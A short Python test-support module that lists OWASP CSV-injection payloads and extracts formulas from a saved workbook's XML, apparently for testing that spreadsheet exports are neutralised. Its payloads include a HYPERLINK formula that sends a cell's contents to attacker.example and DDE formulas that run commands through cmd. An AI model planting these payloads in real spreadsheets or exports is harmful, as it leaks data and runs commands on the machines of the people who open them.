"""OWASP CSV-injection payloads and a look into a written workbook's XML for formulas.

Payloads from owasp.org/www-community/attacks/CSV_Injection, one per trigger character.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)


def as_read_back(payload: str) -> str:
    """The payload as openpyxl reads it back (a lone carriage return comes back as a line feed)."""
    return payload.replace("\r", "\n")


def formulas_in(path: Path) -> list[str]:
    """The formulas stored in a workbook's sheets (``<f>`` elements of the sheet XML)."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = archive.read(name).decode("utf-8")
                found += [part.split("</f>")[0] for part in xml.split("<f>")[1:]]
    return found
